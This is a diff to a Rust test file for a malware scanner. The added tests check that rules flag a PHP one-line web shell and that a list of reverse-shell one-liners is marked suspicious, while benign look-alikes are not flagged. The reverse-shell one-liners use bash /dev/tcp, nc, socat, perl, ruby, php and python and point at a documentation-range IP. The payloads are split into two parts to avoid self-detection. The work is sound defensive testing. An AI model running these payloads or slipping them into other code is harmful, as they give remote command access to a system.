@@ -88,10 +88,53 @@ fn shells_of_the_web_and_of_the_network_are_malware_in_one_line_or_in_many() {
         let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
         assert_eq!(found, [(name.to_owned(), Meaning::Malware)], "{text}");
     }
+    let short = ["<?=sys", "tem($_GE", "T[0])?>"].concat();
+    for text in
+        [php(&"# nothing\n".repeat(500)), short.clone(), short.replace("system(", "`").replace(")", "`")]
+    {
+        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
+        assert_eq!(found, [("php_web_shell".to_owned(), Meaning::Malware)], "{text}");
+    }
     for text in [
-        php(&" ".repeat(500)),
+        short.trim_start_matches("<?=").to_owned(),
         php("\n$").replace("POST[", "POSTED["),
         "<?php system('ls'); $_GET['x'];".into(),
+    ] {
+        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
+        assert_eq!(found, [], "{text}");
+    }
+}
+
+#[test]
+fn shells_over_the_network_are_for_people_to_look_at() {
+    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
+    // In two parts: nothing here is to be found in the test itself.
+    for parts in [
+        ["zsh -i  >/dev/t", "cp/$HOST/$PORT"],
+        ["sh -i >& /dev/u", "dp/$host/53 0>&1 &"],
+        ["rm /tmp/f;mkfi", "fo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4242 >/tmp/f"],
+        ["ncat 192.0.2.1 4444 -", "e /bin/bash"],
+        ["nc -lvp 4444 -", "c sh"],
+        ["ncat -l 8080 --e", "xec \"/bin/bash\""],
+        ["socat tcp-connect:192.0.2.1:4242 ex", "ec:'bash -li',pty,stderr"],
+        [
+            "perl -e 'use Socket;socket(S,PF_IN",
+            "ET,SOCK_STREAM,1);if(connect(S,$a)){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'",
+        ],
+        ["ruby -e 'f=TCPSocket.o", "pen(\"192.0.2.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'"],
+        ["php -r '$s=fsocko", "pen(\"192.0.2.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"],
+        ["s=socket.soc", "ket();s.connect((h,p));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"],
+    ] {
+        let text = parts.concat();
+        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
+        assert_eq!(found, [("shell_over_the_network".to_owned(), Meaning::Suspicious)], "{text}");
+    }
+    for text in [
+        "nc -z 127.0.0.1 80 && exec su app -c /bin/sh",
+        "socat UNIX-LISTEN:x EXEC:/usr/bin/backup",
+        "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo up",
+        "exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0' >&3",
+        "mkfifo /run/x; cat /run/x | sh -i\nnc -z localhost 1",
     ] {
         let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
         assert_eq!(found, [], "{text}");
